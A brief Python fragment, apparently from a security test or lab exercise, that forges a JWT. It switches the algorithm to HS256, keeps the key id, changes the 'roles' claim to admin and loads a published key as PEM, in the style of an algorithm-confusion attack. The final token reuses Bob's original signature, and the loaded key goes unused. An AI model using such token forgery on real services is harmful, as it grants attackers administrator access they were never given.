# requirement: a signature of its own over header and payload
new_header = {"alg": "HS256", "typ": "at+jwt", "kid": header["kid"]}
new_claims = json.loads(claims)
new_claims["roles"] = ["admin"]
pem = pem_of(mine.find_key(published, header["kid"]))
forged = ".".join(
    [
        mine.base64url_encode(json.dumps(new_header).encode()),
        mine.base64url_encode(json.dumps(new_claims).encode()),
        bobs_token.split(".")[2],
    ]
)
